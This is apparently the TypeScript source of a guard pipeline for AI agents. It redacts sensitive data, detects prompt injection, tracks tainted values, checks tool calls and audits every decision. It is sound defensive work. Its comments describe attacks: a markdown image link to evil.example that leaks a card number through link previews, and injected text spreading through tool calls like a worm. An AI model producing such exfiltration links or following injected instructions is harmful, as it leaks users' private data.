/**
 * The safeclaw pipeline: what the proxy, the channels and the agent call. Inputs are
 * classified (level, findings), checked for injection, their secrets tracked; the session's
 * level ratchets up and decides routing; outputs are sanitized; tool calls are checked; and
 * every decision lands in the audit log.
 */
import type { Store } from "@a3s/common";
import { type Classifier, createClassifier, redact } from "./classify.ts";
import { type Action, levelOf, type Policy, policyAction } from "./policy.ts";
import type { Detection } from "./privacy/entities.ts";
import { atLeast, type Level, levelRank, maxLevel } from "./privacy/levels.ts";
import type { InjectionVerdict, Source } from "./injection/detector.ts";
import { injectedPassages } from "./taint_injection.ts";
import { judgeInjection } from "./injection/judge.ts";
import { AuditLog, type Severity } from "./audit/log.ts";
import { SessionLevels } from "./sessions.ts";
import {
  type Label,
  type TaintEntry,
  type TaintHit,
  type TaintKind,
  TaintTracker,
  type Trust,
} from "./taint.ts";
import { checkToolCall, type ToolCall, type ToolDecision } from "./tool_guard.ts";
import {
  placeholdersIn,
  type RedactionMode,
  sanitize,
  type Vault,
  type VaultOrigin,
} from "./sanitize.ts";
import { VaultStore } from "./vault_store.ts";
import { ReviewMemo } from "./review_memo.ts";
import { linksOf, restoreOutsideLinks } from "./restore_links.ts";
import {
  createStreamRestorer,
  createStreamSanitizer,
  type StreamSanitizer,
} from "./stream_sanitizer.ts";
import type { TeeStatus } from "./tee.ts";

/** What the pipeline decided about one input. */
export interface InputDecision {
  /** The session the message belongs to. */
  session: string;
  /** The level of this message alone. */
  level: Level;
  /** The session's level after this message (it never goes down). */
  sessionLevel: Level;
  /**
   * What to do with it: the policy's action at the message's level, or `block` for an injection
   * (when the policy blocks them) or for data that needs a TEE this host lacks.
   */
  action: Action;
  /** True when the message may only go to local models. */
  localOnly: boolean;
  /** The sensitive values the classifier found in the message. */
  findings: Detection[];
  /** The prompt-injection verdict on the message. */
  injection: InjectionVerdict;
  /** The text to pass on: redacted when the action is `redact`. */
  text: string;
  /** Why, in words, when not allowed as is. */
  reasons: string[];
  /** Taint ids given to values in this message. */
  taints: string[];
  /** The message's trust and taints, to carry into whatever is computed from it. */
  label: Label;
}

/** Which of a session's placeholders a reply may have put back. */
export interface RestoreScope {
  /**
   * Only these (default: all the session's). The proxy passes the placeholders it wrote into
   * the request itself: a placeholder a client typed, perhaps naming another user's session,
   * gets nothing back.
   */
  only?: ReadonlySet<string>;
  /**
   * Whether the user's own values in the text pass unredacted (default: where policy restores
   * originals). Off for callers that are not the session's user.
   */
  ownValues?: boolean;
  /**
   * Whether values of untrusted content (a tool's result, a document) count as the caller's own
   * too: so for the OpenAI proxy, whose client sent that content itself and gets it back in
   * the model's tool calls and replies; never for a chat, whose user did not.
   */
  untrusted?: boolean;
}

/** The origins of the values that go back to the caller as its own, for `scope`. */
export function ownOrigins(scope: RestoreScope): readonly VaultOrigin[] {
  return scope.untrusted ? ["input", "untrusted"] : ["input"];
}

/** Options of {@linkcode Guard.open}. */
export interface GuardOptions {
  /** The shared store the audit log and session levels live in. */
  store: Store;
  /** The policy every decision follows. */
  policy: Policy;
  /** The HMAC key of the audit chain. */
  hmacKey: string;
  /** Whether this host runs in a TEE, for the policy's `requireTeeAt`. */
  tee: TeeStatus;
  /** A classifier to share; without one the guard makes its own and frees it on close. */
  classifier?: Classifier;
  /** How long a redacted original stays restorable, in milliseconds (default one day). */
  vaultTtlMs?: number;
  /** A file the audit log appends signed anchors to, and `verify` checks (see `AuditLogOptions`). */
  auditAnchorFile?: string;
  /** Told, once an outage, that the anchor file could not be written (the server logs it). */
  onAuditAnchorError?: (error: Error, unanchoredFrom: number) => void;
  /** The clock (tests move it). */
  now?: () => number;
}

/** What {@linkcode Guard.reviewHistory} says of an earlier message. */
export interface HistoryReview {
  /** The message's level. */
  level: Level;
  /** What the policy does at that level. */
  action: Action;
  /** Whether the message may go only to a local model. */
  localOnly: boolean;
  /** The message as it goes upstream: redacted with the session's placeholders where policy says. */
  text: string;
}

const SECRET_TYPES = new Set(["secret"]);
/** The taint sources that are the session's user: `inspectInput`'s source for what they typed. */
const USER_SOURCES: ReadonlySet<string> = new Set(["user"]);

/**
 * How long a session's vault and empty taint tracker stay in memory unused. A client on loopback
 * names sessions freely (`x-a3s-session`), so what is kept for each one it named must go once
 * unused, or the guard grows without bound. Far longer than a reply takes: a vault let go while
 * a streamed reply still numbers placeholders in it would be read back beside it.
 */
const SESSION_IDLE_MS = 10 * 60_000;

/** The most sessions whose taint trackers stay in memory. */
export const MAX_TRACKED_SESSIONS = 10_000;

/**
 * Per-session state kept in memory while the session is in use, least recently used first. What
 * `canForget` allows (what can be made again the same) goes once unused for `idleMs`.
 */
class SessionCache<T> {
  #entries = new Map<string, { value: T; usedAt: number }>();
  #nextSweep = 0;

  constructor(
    private readonly options: {
      idleMs: number;
      canForget: (value: T) => boolean;
      now: () => number;
      /** The most sessions kept: past it the least recently used goes, forgettable or not. */
      maxEntries?: number;
    },
  ) {}

  /** The session's value, made with `make` when there is none; now the most recently used. */
  get(session: string, make: () => T): T {
    const now = this.options.now();
    this.#sweep(now);
    const entry = this.#entries.get(session) ?? { value: make(), usedAt: now };
    entry.usedAt = now;
    // A Map iterates in insertion order: re-inserting on use keeps the least recent first.
    this.#entries.delete(session);
    this.#entries.set(session, entry);
    const max = this.options.maxEntries ?? Infinity;
    for (const oldest of this.#entries.keys()) {
      if (this.#entries.size <= max) break;
      this.#entries.delete(oldest);
    }
    return entry.value;
  }

  /** Forgets the session's value if it is still `value`. */
  forget(session: string, value: T): void {
    if (this.#entries.get(session)?.value === value) this.#entries.delete(session);
  }

  get size(): number {
    return this.#entries.size;
  }

  #sweep(now: number): void {
    // A tenth of the idle time apart: one scan per call would make each call cost every session.
    if (now < this.#nextSweep) return;
    this.#nextSweep = now + this.options.idleMs / 10;
    for (const [session, entry] of this.#entries) {
      // The rest were used later.
      if (now - entry.usedAt < this.options.idleMs) break;
      if (this.options.canForget(entry.value)) this.#entries.delete(session);
    }
  }
}

/** A streamed reply's sanitizer, which also audits what the reply carried. */
export interface ReplyStream extends StreamSanitizer {
  /** The audit record of the reply, made at `flush`; resolves at once when there is none. */
  recorded(): Promise<void>;
}

/**
 * The pipeline over the shared store.
 *
 * @example
 * ```ts
 * import { openStore } from "@a3s/common";
 * import { Guard, parsePolicy } from "@a3s/safeclaw";
 * const store = await openStore({ sqlitePath: ":memory:" });
 * const guard = await Guard.open({
 *   store, policy: parsePolicy({}), hmacKey: "0123456789abcdef", tee: { kind: null, device: null },
 * });
 * const d = await guard.inspectInput({ session: "u:c:t", text: "my card 4111 1111 1111 1111" });
 * console.log(d.localOnly); // true
 * await guard.close();
 * await store.close();
 * ```
 */
export class Guard {
  /** The policy every decision follows. */
  readonly policy: Policy;
  /** The audit log every decision is recorded in. */
  readonly audit: AuditLog;
  /** Each session's level, which only ratchets up. */
  readonly sessions: SessionLevels;
  /** Whether this host runs in a TEE. */
  readonly tee: TeeStatus;
  /** The classifier inputs and outputs go through. */
  readonly classifier: Classifier;
  #ownsClassifier: boolean;
  #now: () => number;
  #vaultTtlMs: number;
  // A tracker is let go only while it tracks nothing: its taints live nowhere else, and a tool
  // call carrying a value it forgot would no longer be caught.
  #trackers: SessionCache<TaintTracker>;
  /** The sessions' placeholder vaults, encrypted in the store. */
  readonly vaults: VaultStore;
  // The store keeps every placeholder made, so a vault let go is read back the same.
  #vaults: SessionCache<Promise<Vault>>;
  // What past messages gave when reviewed, up to 8 Mi UTF-16 units (16 MiB) of text.
  #reviewed: ReviewMemo<HistoryReview>;
  #nextReviewPurge = 0;
  // Values a session's tracker let go to stay within its cap, not audited yet.
  #evicted = new Map<string, TaintEntry[]>();
  // Audit records written behind the call that caused them; close() waits for them.
  #writing = new Set<Promise<void>>();

  private constructor(
    options: GuardOptions,
    audit: AuditLog,
    sessions: SessionLevels,
    vaults: VaultStore,
  ) {
    this.policy = options.policy;
    this.audit = audit;
    this.sessions = sessions;
    this.vaults = vaults;
    this.tee = options.tee;
    this.#now = options.now ?? Date.now;
    this.#vaultTtlMs = options.vaultTtlMs ?? DEFAULT_VAULT_TTL_MS;
    const now = this.#now;
    this.#trackers = new SessionCache({
      idleMs: SESSION_IDLE_MS,
      canForget: (tracker) => tracker.size === 0,
      now,
      // A tracker holding taints is kept while idle (its taints are stored nowhere else), but a
      // client inventing a session per request must not grow memory for good: past this many
      // sessions the least recently used goes, taints and all.
      maxEntries: MAX_TRACKED_SESSIONS,
    });
    this.#vaults = new SessionCache({ idleMs: SESSION_IDLE_MS, canForget: () => true, now });
    this.#reviewed = new ReviewMemo(8 << 20, { now });
    this.#ownsClassifier = !options.classifier;
    this.classifier = options.classifier ?? createClassifier({
      minConfidence: options.policy.minConfidence,
    });
  }

  /** Opens the audit log and the session table. */
  static async open(options: GuardOptions): Promise<Guard> {
    const audit = await AuditLog.open(options.store, {
      hmacKey: options.hmacKey,
      anchorFile: options.auditAnchorFile,
      onAnchorError: options.onAuditAnchorError,
    });
    const sessions = await SessionLevels.open(options.store);
    const vaults = await VaultStore.open(options.store, {
      secret: options.hmacKey,
      ttlMs: options.vaultTtlMs ?? DEFAULT_VAULT_TTL_MS,
      ...(options.now ? { now: options.now } : {}),
    });
    return new Guard(options, audit, sessions, vaults);
  }

  /**
   * The session's taint tracker. It tracks at most `MAX_TAINTS_PER_SESSION` values; past that it
   * lets the least recently tracked Sensitive value go first, and each value let go is audited
   * (`taint_eviction`), so that a tool call no longer caught is not silently so.
   */
  tracker(session: string): TaintTracker {
    return this.#trackers.get(
      session,
      () => new TaintTracker({ onEvict: (entry) => this.#noteEviction(session, entry) }),
    );
  }

  /** Audits the values a tracker let go, once for all that one call made it let go. */
  #noteEviction(session: string, entry: TaintEntry): void {
    const pending = this.#evicted.get(session);
    if (pending) {
      pending.push(entry);
      return;
    }
    const entries = [entry];
    this.#evicted.set(session, entries);
    queueMicrotask(() => {
      this.#evicted.delete(session);
      const kinds: Record<string, number> = {};
      for (const e of entries) kinds[e.kind] = (kinds[e.kind] ?? 0) + 1;
      this.#writeBehind(this.#record(session, {
        kind: "taint_eviction",
        severity: "warning",
        data: {
          reason: "the session tracks the most values it may; the least recent went",
          count: entries.length,
          kinds,
          // The ids only (no values), and not thousands of them.
          ids: entries.slice(0, 100).map((e) => e.id),
        },
      }));
    });
  }

  #writeBehind(write: Promise<void>): void {
    const tracked = write.finally(() => this.#writing.delete(tracked));
    // Awaited by close(); this keeps an unawaited failure from ending the process.
    tracked.catch(() => {});
    this.#writing.add(tracked);
  }

  /**
   * The session's vault of redacted originals, read from the store on first use after a
   * (re)start or after it went unused a while; each original expires in it as in the store.
   */
  vault(session: string): Promise<Vault> {
    return this.#vaults.get(session, () => {
      const loading = this.vaults.load(session);
      // A failed read is not kept: the next call tries the store again.
      loading.catch(() => this.#vaults.forget(session, loading));
      return loading;
    });
  }

  /** How many sessions' vaults and taint trackers are held in memory. */
  get sessionsInMemory(): { vaults: number; trackers: number } {
    return { vaults: this.#vaults.size, trackers: this.#trackers.size };
  }

  /**
   * What a reply to the session's own user in a chat (the hub's, WebChat's) may have put back:
   * only the placeholders written for what that user sent, none of a tool's result, a page or
   * a document the model read for them, nor of an earlier reply.
   */
  async ownInputsScope(session: string): Promise<RestoreScope> {
    return { only: (await this.vault(session)).placeholders("input") };
  }

  /** The level of `findings` under the policy. */
  levelOf(findings: readonly Detection[]): Level {
    let level: Level = "Normal";
    for (const f of findings) level = maxLevel(level, levelOf(this.policy, f.type));
    return level;
  }

  /**
   * What the policy does with data at `level` on this host: its action, or a block with the
   * reason when the policy wants a TEE for it and the host has none. Every path that judges data
   * (a new message, the history, a request's other fields, the CLI) asks here, so none of them
   * lets TEE-only data through.
   */
  actionAt(level: Level): { action: Action; teeRefusal?: string } {
    return policyAction(this.policy, level, this.tee);
  }

  /**
   * What the policy does to an earlier message of a conversation that goes upstream again
   * (clients send the whole history each turn, their own messages as typed and the replies as
   * they got them): its level and action, and its text redacted as it was when new (the
   * session's placeholders are stable). Nothing is recorded and no injection verdict is rerun:
   * the message was checked when it was new, or it is a reply the user got.
   */
  async reviewHistory(
    session: string,
    text: string,
    origin: VaultOrigin = "input",
  ): Promise<HistoryReview> {
    const now = this.#now();
    if (now >= this.#nextReviewPurge) {
      // The key is the message's text, originals and all: none is kept past the vault's time.
      this.#nextReviewPurge = now + 60_000;
      this.#reviewed.purgeExpired();
    }
    const key = `${origin}\u0000${session}\u0000${text}`;
    const known = this.#reviewed.get(key);
    if (known) return { ...known };
    const findings = this.classifier.classify(text).findings;
    const level = this.levelOf(findings);
    const action = this.actionAt(level).action;
    const localOnly = action === "local_only" || atLeast(level, this.policy.localOnlyAt);
    let expiresAt = now + this.#vaultTtlMs;
    let redacted = text;
    if (action === "redact") {
      const vault = await this.vault(session);
      redacted = sanitize(text, findings, "placeholder", vault, origin);
      // The review holds until the first placeholder it gave expires; after that the same text
      // is redacted anew (its value gets a new placeholder).
      const typed = placeholdersIn(text);
      for (const placeholder of placeholdersIn(redacted)) {
        if (!typed.has(placeholder)) {
          expiresAt = Math.min(expiresAt, vault.expiresAt(placeholder) ?? now);
        }
      }
    }
    const review = { level, action, localOnly, text: redacted };
    this.#reviewed.set(
      key,
      review,
      key.length + (redacted === text ? 0 : redacted.length),
      expiresAt,
    );
    return { ...review };
  }

  /** Classifies, checks and records one input message. */
  async inspectInput(
    input: { session: string; text: string; source?: Source },
  ): Promise<InputDecision> {
    const { session, text } = input;
    const source = input.source ?? "user";
    const findings = this.classifier.classify(text).findings;
    const level = this.levelOf(findings);
    const sessionLevel = await this.sessions.raise(session, level);
    const injection = await judgeInjection(text, {
      source,
      threshold: this.policy.injection.threshold,
    });
    const reasons: string[] = [];
    let action: Action = this.policy.actions[level];
    if (action !== "allow") reasons.push(`${level} data (${typesOf(findings)}): ${action}`);
    if (injection.injection && this.policy.injection.action === "block") {
      action = "block";
      reasons.push(`prompt injection: ${injection.explanation}`);
    }
    const teeRefusal = this.actionAt(level).teeRefusal;
    if (teeRefusal) {
      action = "block";
      reasons.push(teeRefusal);
    }
    const localOnly = action === "local_only" || atLeast(sessionLevel, this.policy.localOnlyAt);
    const taints = this.trackFindings(session, text, findings, source);
    // The injected text itself is tracked, wherever it stands in the text, so a tool call that
    // carries it on (a worm re-posting itself) is caught.
    if (injection.injection) {
      for (const passage of injectedPassages(text, injection)) {
        taints.push(this.tracker(session).track(passage, "PromptInjection", source));
      }
    }
    // Only what the user sent is theirs to have back; a tool's result, a page, a document or an
    // email is vaulted apart, so that a reply (or a placeholder the user types) does not give
    // its values to the user as if they were the user's own.
    const origin: VaultOrigin = source === "user" ? "input" : "untrusted";
    const redacted = action === "redact"
      ? sanitize(text, findings, "placeholder", await this.vault(session), origin)
      : text;
    // A message passed on unredacted (allowed, or local-only: a card makes a chat
    // HighlySensitive) still gives the user's values to the vault as theirs, or a reply that
    // repeats them (the user's own card) was masked while a redacted e-mail came back.
    if (origin === "input" && (action === "allow" || action === "local_only") && findings.length) {
      const vault = await this.vault(session);
      for (const f of findings) vault.placeholderFor(f.type, text.slice(f.start, f.end), origin);
    }
    await this.#record(session, {
      kind: action === "block" ? "block" : action === "redact" ? "redaction" : "classification",
      severity: action === "block" ? "critical" : levelRank(level) >= 2 ? "warning" : "info",
      data: {
        level,
        sessionLevel,
        action,
        localOnly,
        source,
        types: [...new Set(findings.map((f) => f.type))],
        injectionScore: injection.score,
        injectionCategories: injection.categories,
      },
    });
    if (injection.injection) {
      await this.#record(session, {
        kind: "injection",
        severity: this.policy.injection.action === "block" ? "critical" : "warning",
        data: { score: injection.score, categories: injection.categories, source },
      });
    }
    return {
      session,
      level,
      sessionLevel,
      action,
      localOnly,
      findings,
      injection,
      text: redacted,
      reasons,
      taints,
      label: this.#label(session, text, source, injection.injection),
    };
  }

  /**
   * The label of an input: the user's own words are trusted, content from documents, pages,
   * emails and tool results is not; taints are what the tracker finds in it (including what
   * this message just registered) and prompt injection when the verdict says so.
   */
  #label(session: string, text: string, source: Source, injection: boolean): Label {
    const trust: Trust = source === "user" ? "Trusted" : "Untrusted";
    const taints = new Set<TaintKind>(this.tracker(session).find(text).map((h) => h.kind));
    if (injection) taints.add("PromptInjection");
    return { trust, taints: [...taints] };
  }

  /**
   * Tracks the values of `findings` (of `text`) as the session's taints, kind by type (secrets
   * as Secret, the rest Sensitive); returns their taint ids. Left out: values under six
   * characters, types policy counts as Normal, and the address of this host or of a host the
   * policy lets tool calls reach. The proxy tracks values only pieces of a request show (across
   * text parts or messages) through it too.
   */
  trackFindings(
    session: string,
    text: string,
    findings: readonly Detection[],
    source: string,
  ): string[] {
    const tracker = this.tracker(session);
    const ids: string[] = [];
    for (const f of findings) {
      const value = text.slice(f.start, f.end);
      if (value.length < 6) continue;
      const kind: TaintKind = SECRET_TYPES.has(f.type) ? "Secret" : "Sensitive";
      if (levelRank(levelOf(this.policy, f.type)) === 0) continue;
      // The address a dev server listens on, or a host the policy lets tool calls reach, is no
      // secret: tracked, it blocked every later call to that very host (`curl 127.0.0.1:8000`).
      if (f.type === "ip_address" && this.#publicAddress(value)) continue;
      ids.push(tracker.track(value, kind, source, f.type));
    }
    return ids;
  }

  /** Whether `ip` is the local machine's (loopback, unspecified) or an allow-listed host. */
  #publicAddress(ip: string): boolean {
    const address = ip.toLowerCase().replace(/^\[|\]$/g, "");
    if (/^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$|^0\.0\.0\.0$|^::1?$|^::ffff:127\./.test(address)) {
      return true;
    }
    return this.policy.toolCalls.allowHosts.some((host) => host.toLowerCase() === address);
  }

  /**
   * Checks a tool call before it runs, and records the decision when it is not allowed. Values
   * the session's user sent are theirs to have a tool use (as a reply gives them back): their
   * Sensitive values never block a call, they send it for approval; their Secrets are held as
   * the policy says.
   */
  async inspectToolCall(session: string, call: ToolCall): Promise<ToolDecision> {
    const decision = checkToolCall(call, this.tracker(session), this.policy, {
      ownSources: USER_SOURCES,
    });
    if (decision.decision !== "allow") {
      await this.#record(session, {
        kind: decision.decision === "block" ? "block" : "approval",
        severity: decision.decision === "block" ? "critical" : "warning",
        data: {
          tool: call.tool,
          decision: decision.decision,
          // A reason quotes the call (a host, a tool name): what it holds stays out of the log.
          reasons: decision.reasons.map((r) => sanitize(r, this.classifier.classify(r).findings)),
          taints: decision.taints.map((t) => t.id),
        },
      });
    }
    return decision;
  }

  /**
   * Takes a tool result in as untrusted content: classified, tracked, checked for injection; its
   * redacted values are vaulted as `untrusted`, never given back to the user as their own.
   */
  async ingestToolResult(session: string, tool: string, text: string): Promise<InputDecision> {
    return await this.inspectInput({ session, text, source: "tool_result" }).then((d) => ({
      ...d,
      reasons: d.reasons.map((r) => `${tool}: ${r}`),
    }));
  }

  /**
   * Sanitizes a whole reply. Where policy allows, the session's placeholders are restored and
   * its own values pass; anything else sensitive is redacted.
   */
  async sanitizeOutput(
    session: string,
    text: string,
    mode: RedactionMode = "placeholder",
    scope: RestoreScope = {},
  ): Promise<{ text: string; findings: Detection[]; taints: TaintHit[]; label: Label }> {
    const vault = await this.vault(session);
    const restored = this.#givesOwnValues(scope)
      ? restoreOutsideLinks(text, (p) => vault.restore(p, ownOrigins(scope), scope.only))
      : text;
    // The session's own values (what its user sent), put back from its vault, go back to it as
    // they were; anything else the reply carries is redacted, also when an earlier reply's value
    // (or its placeholder) comes again.
    const findings = this.#othersValues(restored, vault, scope);
    const taints = this.tracker(session).find(restored);
    const out = sanitize(restored, findings, mode, vault, "output");
    if (findings.length || taints.length) {
      await this.#record(session, {
        kind: "redaction",
        severity: taints.length ? "warning" : "info",
        data: {
          direction: "output",
          types: [...new Set(findings.map((f) => f.type))],
          taints: taints.map((t) => t.id),
        },
      });
    }
    // A reply is derived from the conversation: it carries the taints of what it repeats.
    const label: Label = { trust: "Derived", taints: [...new Set(taints.map((t) => t.kind))] };
    return { text: out, findings, taints, label };
  }

  /**
   * A sanitizer for one streamed reply of `session` that does what `sanitizeOutput` does to a
   * whole reply: where policy allows, the session's placeholders are put back and its own values
   * pass; anything else sensitive is redacted. After `flush`, `recorded()` is the audit record
   * of what the reply carried (none when it carried nothing).
   */
  async outputStream(
    session: string,
    mode: RedactionMode = "placeholder",
    scope: RestoreScope = {},
  ): Promise<ReplyStream> {
    const vault = await this.vault(session);
    // The same origins as a whole reply's (the proxy's scope counts the client's tool results
    // as its own): a streamed reply was stricter than a whole one.
    const restorer = this.#givesOwnValues(scope)
      ? createStreamRestorer((t, before) =>
        restoreOutsideLinks(t, (p) => vault.restore(p, ownOrigins(scope), scope.only), before)
      )
      : undefined;
    const matchTaints = this.tracker(session).streamMatcher();
    const types = new Set<string>();
    const taints = new Set<string>();
    const sanitizer = createStreamSanitizer({
      detect: (t) => this.#othersValues(t, vault, scope),
      onRedact: (findings) => findings.forEach((f) => types.add(f.type)),
      mode,
      vault,
    });
    // Taints are matched in the reply as the user gets it back, before redaction, as for a
    // whole reply.
    const feed = (text: string) => {
      for (const hit of matchTaints(text)) taints.add(hit.id);
      return sanitizer.push(text);
    };
    let recording: Promise<void> | undefined;
    return {
      push: (chunk) => feed(restorer ? restorer.push(chunk) : chunk),
      flush: () => {
        const out = (restorer ? feed(restorer.flush()) : "") + sanitizer.flush();
        for (const hit of matchTaints.flush()) taints.add(hit.id);
        if (!recording && (types.size || taints.size)) {
          recording = this.#record(session, {
            kind: "redaction",
            severity: taints.size ? "warning" : "info",
            data: { direction: "output", streamed: true, types: [...types], taints: [...taints] },
          });
          // Awaited through recorded(); this keeps an unawaited failure from ending the process.
          recording.catch(() => {});
        }
        return out;
      },
      recorded: () => recording ?? Promise.resolve(),
    };
  }

  /**
   * `text` with the session's placeholders of its user's own values put back, where policy
   * restores originals: what a tool the model calls must be given, as the model saw only the
   * placeholders. Values the model got from anywhere else stay as they are.
   */
  async restoreInputs(session: string, text: string, scope: RestoreScope = {}): Promise<string> {
    return this.#restore(await this.vault(session), text, scope);
  }

  /** Whether the user's own values go back to them, as policy and `scope` say. */
  #givesOwnValues(scope: RestoreScope): boolean {
    return this.policy.restoreOriginals && scope.ownValues !== false;
  }

  /** `text` with the user's own values put back where policy and `scope` allow. */
  #restore(vault: Vault, text: string, scope: RestoreScope): string {
    return this.#givesOwnValues(scope) ? vault.restore(text, ownOrigins(scope), scope.only) : text;
  }

  /**
   * The findings of a reply's `text` that are not the user's own values (which pass where policy
   * restores originals), and the user's own values inside a link: a platform fetches a link for
   * its preview, so the user's card in `![x](https://evil.example/p.png?c=…)` would go to that
   * host with no click, as a placeholder put back there would (`restore_links.ts`).
   */
  #othersValues(text: string, vault: Vault, scope: RestoreScope): Detection[] {
    const findings = this.classifier.classify(text).findings;
    if (!this.#givesOwnValues(scope)) return findings;
    // Findings come in ascending order, so one forward scan answers for all of them.
    const inLink = linksOf(text);
    return findings.filter((f) =>
      inLink(f.start) || !vault.holds(text.slice(f.start, f.end), ownOrigins(scope))
    );
  }

  /**
   * Records that values in a tool call's name or arguments were redacted before the client got
   * the call, as every other redaction is.
   */
  async recordCallRedaction(session: string, tool: string, types: string[]): Promise<void> {
    await this.#record(session, {
      kind: "redaction",
      severity: "info",
      data: { direction: "tool_call", tool, types },
    });
  }

  /**
   * Records a redaction the API's `/sanitize` made for a caller (`session` null when it named
   * none), as every other redaction is: the audit log's account of what was redacted must not
   * depend on which door the text came in by.
   */
  async recordApiRedaction(
    session: string | null,
    mode: RedactionMode,
    types: string[],
  ): Promise<void> {
    await this.#record(session, {
      kind: "redaction",
      severity: "info",
      data: { direction: "api", mode, types },
    });
  }

  /**
   * `text` with every finding replaced by its type (`[EMAIL]`, no placeholder kept): for what
   * goes to audit records and logs, such as an error that quotes a message or an upstream reply.
   */
  redactForRecord(text: string): string {
    return redact(text, this.classifier.classify(text).findings);
  }

  async #record(
    session: string | null,
    event: { kind: string; severity: Severity; data: Record<string, unknown> },
  ): Promise<void> {
    await this.audit.append({ ...event, session });
  }

  /**
   * Waits for the placeholders made so far to be stored (before the store closes), then frees
   * the classifier when the guard made it.
   */
  async close(): Promise<void> {
    try {
      // Evictions noted in this turn are recorded before the store goes.
      await new Promise((resolve) => setTimeout(resolve, 0));
      await Promise.all([...this.#writing]);
      await this.vaults.flush();
      // The last anchor is written before the store closes.
      await this.audit.close();
    } finally {
      if (this.#ownsClassifier) this.classifier.free();
    }
  }
}

/** How long an original stays restorable unless `vaultTtlMs` says otherwise: one day. */
const DEFAULT_VAULT_TTL_MS = 86_400_000;

function typesOf(findings: readonly Detection[]): string {
  return [...new Set(findings.map((f) => f.type))].join(", ") || "none";
}
